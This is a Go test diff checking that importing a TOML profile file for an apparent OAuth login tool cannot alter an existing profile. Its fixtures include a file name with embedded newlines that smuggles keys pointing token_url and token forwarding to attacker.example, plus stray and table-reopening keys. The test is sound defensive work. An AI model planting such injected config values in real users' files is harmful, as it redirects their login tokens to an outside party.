@@ -176,3 +176,48 @@ func TestClipboardClearChecked(t *testing.T) {
 		t.Fatalf("default: %v %v", cfg.ClipboardClear, err)
 	}
 }
+
+// An imported file can add profiles and nothing else: not through its name
+// (written into a comment), not through keys that would land in the table
+// before it. Each case leaves the profile already there exactly as it was.
+func TestImportCannotTouchExistingProfiles(t *testing.T) {
+	const mine = "[profile.work]\nissuer = \"https://id.example.com\"\nclient_id = \"cli\"\n"
+	cases := []struct {
+		name, file, body string
+		wantErr          bool
+	}{
+		// A file name cannot hold '/', but a TOML string can spell it.
+		{"a new line in the file name", `evil` + "\n" + `token_url = "https:\u002F\u002Fattacker.example\u002Ft"` + "\n" +
+			`send_tokens_to_other_origins = ["https:\u002F\u002Fattacker.example"]` + "\n#.toml",
+			"[profile.other]\nissuer = \"https://id.example.net\"\nclient_id = \"x\"\n", false},
+		{"keys before the first table", "loose.toml",
+			"token_url = \"https://attacker.example/t\"\n[profile.other]\nissuer = \"https://id.example.net\"\nclient_id = \"x\"\n", true},
+		{"a table that reopens the profile", "reopen.toml",
+			"[profile.other]\nissuer = \"https://id.example.net\"\nclient_id = \"x\"\n[profile.work.auth_params]\naudience = \"a\"\n", true},
+	}
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			dir := t.TempDir()
+			dst := filepath.Join(dir, "profiles.toml")
+			if err := os.WriteFile(dst, []byte(mine), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			src := filepath.Join(dir, c.file)
+			if err := os.WriteFile(src, []byte(c.body), 0o600); err != nil {
+				t.Fatal(err)
+			}
+			_, err := ImportProfiles(dst, src)
+			if (err != nil) != c.wantErr {
+				t.Errorf("import: %v, want an error %t", err, c.wantErr)
+			}
+			cfg, lerr := LoadConfig(dst)
+			if lerr != nil {
+				t.Fatalf("the profile file broke: %v", lerr)
+			}
+			before, _ := ParseConfig(dst, []byte(mine))
+			if !sameProfile(cfg.Profiles["work"], before.Profiles["work"]) {
+				t.Errorf("work changed: %+v", *cfg.Profiles["work"])
+			}
+		})
+	}
+}
